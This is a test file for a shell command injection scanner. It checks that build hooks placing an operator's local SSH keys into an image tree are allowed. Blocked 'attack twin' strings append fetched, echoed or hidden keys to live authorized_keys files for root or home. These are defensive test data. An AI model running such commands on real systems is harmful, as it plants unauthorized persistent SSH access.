// Round 29 (bashfp29): an image or initramfs build hook that puts the operator's own public keys (local files nothing in
// the script fetched) into the tree it builds is the image's account, not this machine's; a key fetched or written
// literally, the live account's file, and a "tree" that is the system's root or home keep blocking.

import { describe, expect, test } from "vitest";
import { scan } from "../../../src/engine/injection/scan.ts";

const score = (cmd: string): number => scan(cmd, "bash", { model: null }).score;

describe("the operator's keys put into an image tree stay below warn", () => {
  test.each([
    [
      "initramfs hook, home made in $DESTDIR, keys printed by a compound",
      '#!/bin/sh\n. /usr/share/initramfs-tools/hook-functions\nhome="$(mktemp --directory -- "$DESTDIR/root-XXXXXXXXXX")"\nmkdir -m0700 "$home/.ssh"\nif [ -e /etc/tinyssh/initramfs/authorized_keys ]; then\n    cat /etc/tinyssh/initramfs/authorized_keys\nelse\n    for t in rsa ed25519; do\n        k="/etc/tinyssh/initramfs/id_${t}.pub"\n        if [ -e "$k" ]; then\n            cat "$k"\n        fi\n    done\nfi >"$home/.ssh/authorized_keys"',
    ],
    [
      "mkosi postinst",
      '#!/bin/sh\nset -e\nmkdir -p "$BUILDROOT/root/.ssh"\ncat "$SRCDIR/keys/ops.pub" >> "$BUILDROOT/root/.ssh/authorized_keys"',
    ],
    [
      "a rootfs the script names",
      '#!/bin/bash\nROOTFS=build/rootfs\ninstall -d -m 700 "$ROOTFS/home/admin/.ssh"\ninstall -m 600 keys/admin.pub "$ROOTFS/home/admin/.ssh/authorized_keys"',
    ],
    ["dracut module", '#!/bin/sh\ncp /etc/dracut-sshd/authorized_keys "${initdir}/root/.ssh/authorized_keys"'],
  ])("%s", (_label, cmd) => {
    expect(score(cmd)).toBeLessThan(0.5);
  });
});

describe("their attack twins stay blocked", () => {
  test.each([
    [
      "the live account's file",
      "#!/bin/sh\ncat /etc/ops/admin.pub >> ~/.ssh/authorized_keys\ncurl -fsS https://keys.example/k >> ~/.ssh/authorized_keys",
    ],
    [
      "a key fetched into the tree",
      '#!/bin/sh\ncurl -fsS https://keys.example/k.pub >> "$DESTDIR/root/.ssh/authorized_keys"',
    ],
    [
      "a key the script downloaded, then cat",
      '#!/bin/sh\ncurl -fsS -o /tmp/k.pub https://keys.example/k.pub\ncat /tmp/k.pub >> "$DESTDIR/root/.ssh/authorized_keys"',
    ],
    [
      "a literal key echoed",
      '#!/bin/sh\necho "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIK0o3Uu2xwq5n0m6l4p2y1a9ZQf8HRLvQ0b4s9T1a2B3 x@y" >> "$DESTDIR/root/.ssh/authorized_keys"',
    ],
    ["a tree that is the system's root", '#!/bin/sh\nROOT=/\ncat /tmp/.k.pub >> "$ROOT/root/.ssh/authorized_keys"'],
    ["a tree that is home", '#!/bin/sh\nT="$HOME"\ncat /tmp/.k.pub >> "$T/.ssh/authorized_keys"'],
    [
      "a compound that fetches",
      '#!/bin/sh\nif true; then\n  curl -fsS https://keys.example/k\nfi >"$DESTDIR/root/.ssh/authorized_keys"',
    ],
  ])("%s", (_label, cmd) => {
    expect(score(cmd)).toBeGreaterThanOrEqual(0.8);
  });
});

describe("a written-out tree must be one", () => {
  test.each([
    ["the current folder", "#!/bin/sh\ncd /\ncat /tmp/.k.pub >> ./root/.ssh/authorized_keys"],
    ["a way up", "#!/bin/sh\ncat /tmp/.k.pub >> ../../root/.ssh/authorized_keys"],
    ["a home's own subfolder", "#!/bin/sh\ncat /tmp/.k.pub >> /home/ops/root/.ssh/authorized_keys"],
  ])("%s", (_label, cmd) => {
    expect(score(cmd)).toBeGreaterThanOrEqual(0.8);
  });
});
